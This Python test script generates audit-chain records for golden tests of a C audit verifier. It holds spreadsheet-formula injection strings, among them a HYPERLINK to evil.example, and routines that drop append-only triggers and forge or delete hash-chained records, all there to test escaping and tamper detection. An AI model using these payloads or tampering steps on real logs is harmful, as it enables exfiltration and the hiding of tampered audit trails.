#!/usr/bin/python3
# tests/golden/audit_chain.py - an INDEPENDENT Python implementation of
# the audit chain format of include/grondslag/store/audit.h, for the golden
# tests: the C verifier must accept what this writes.
#   audit_chain.py fill DB N       append N "approve" records
#   audit_chain.py hostile DB N    append N "refused" records whose
#                                  text fields start like spreadsheet
#                                  formulas (what a caller may type)
#   audit_chain.py rewrite DB SEQ  alter record SEQ and re-hash it and
#                                  every later record (a consistent
#                                  forged chain: only a checkpoint finds it)
#   audit_chain.py drop DB SEQ     delete records SEQ and SEQ + 1, number
#                                  the later ones down and re-hash them
#                                  (records removed without a trace in
#                                  the chain itself)
# rewrite drops the append-only triggers first, as an intruder would.
import hashlib
import sqlite3
import sys


def s(x):
    """A canonical JSON string or integer (audit.h escaping)."""
    if isinstance(x, int):
        return str(x)
    out = ['"']
    for c in x:
        o = ord(c)
        out.append('\\"' if c == '"' else '\\\\' if c == '\\' else
                   '\\u%04x' % o if o < 0x20 or o == 0x7f else c)
    out.append('"')
    return "".join(out)


def canon(seq, at, actor, uid, role, event, ref, details):
    return ('{"actor":%s,"at":%d,"details":%s,"event":%s,"ref":%s,"role":%s,"seq":%d,"uid":%s}'
            % (s(actor), at, details, s(event), s(ref), s(role), seq,
               "null" if uid is None else str(uid)))


def digest(prev, text):
    return hashlib.sha256((prev + "\n" + text).encode()).hexdigest()


def fill(db, n):
    row = db.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    seq, prev = (row[0], row[1]) if row else (0, "0" * 64)
    for i in range(n):
        seq += 1
        actor, uid = ("jan", 1001) if i % 2 else ("daemon", None)
        role = "jurist" if uid else "daemon"
        d = {"reason": 'say "why"\n', "recipients": "<cert@cert.be>", "n": i}
        details = "{" + ",".join(s(k) + ":" + s(v) for k, v in sorted(d.items())) + "}"
        at = 1741953600 + seq
        h = digest(prev, canon(seq, at, actor, uid, role, "approve", "G20250314-7KQ2M9XH0T",
                               details))
        db.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?,?,?,?)",
                   (seq, at, actor, uid, role, "approve", "G20250314-7KQ2M9XH0T", details,
                    prev, h))
        prev = h


HOSTILE = ['=HYPERLINK("http://evil.example/?x","open")', "+1+1", "-2+3", "@SUM(A1)",
           "\tcmd", "\r=1"]


def hostile(db, n):
    row = db.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    seq, prev = (row[0], row[1]) if row else (0, "0" * 64)
    for i in range(n):
        seq += 1
        text = HOSTILE[i % len(HOSTILE)]
        details = "{" + s("refused") + ":" + s(text) + "}"
        at = 1741953600 + seq
        h = digest(prev, canon(seq, at, text, 1005, "none", "refused", text, details))
        db.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?,?,?,?)",
                   (seq, at, text, 1005, "none", "refused", text, details, prev, h))
        prev = h


def rewrite(db, first):
    db.executescript("DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;")
    rows = db.execute("SELECT seq, at, actor, uid, role, event, ref, details, prev_hash"
                      " FROM audit WHERE seq >= ? ORDER BY seq", (first,)).fetchall()
    prev = rows[0][8]
    for (seq, at, actor, uid, role, event, ref, details, _) in rows:
        if seq == first:
            details = '{"forged":1}'
        h = digest(prev, canon(seq, at, actor, uid, role, event, ref, details))
        db.execute("UPDATE audit SET details = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                   (details, prev, h, seq))
        prev = h


def drop(db, first):
    db.executescript("DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;")
    rows = db.execute("SELECT seq, at, actor, uid, role, event, ref, details, prev_hash"
                      " FROM audit WHERE seq >= ? ORDER BY seq", (first,)).fetchall()
    prev = rows[0][8]
    db.execute("DELETE FROM audit WHERE seq >= ?", (first,))
    seq = first
    for (_, at, actor, uid, role, event, ref, details, _) in rows[2:]:
        h = digest(prev, canon(seq, at, actor, uid, role, event, ref, details))
        db.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?,?,?,?)",
                   (seq, at, actor, uid, role, event, ref, details, prev, h))
        prev = h
        seq += 1


if __name__ == "__main__":
    conn = sqlite3.connect(sys.argv[2])
    {"fill": fill, "hostile": hostile, "rewrite": rewrite, "drop": drop}[sys.argv[1]](conn, int(sys.argv[3]))
    conn.commit()
